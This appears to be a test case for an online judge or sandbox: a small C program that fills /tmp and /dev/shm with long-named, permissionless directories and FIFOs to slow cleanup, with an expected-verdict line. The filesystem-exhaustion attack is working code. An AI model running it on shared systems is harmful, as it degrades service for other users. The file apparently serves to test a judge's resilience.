/* attack: names as long as they can be, of directories and FIFOs by turns, for a slow removal
 * expect: AC OLE RE
 */
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    const char *places[] = {"/tmp", "/dev/shm"};
    char name[256];
    memset(name, 'x', sizeof name);
    name[255] = 0;
    for (int p = 0; p < 2; p++) {
        if (chdir(places[p])) continue;
        for (int i = 0; i < 10000; i++) {
            name[snprintf(name, 9, "%08d", i)] = 'y';
            if (i % 2 ? mkdir(name, 0) : mkfifo(name, 0)) break;
        }
    }
    puts("held");
}
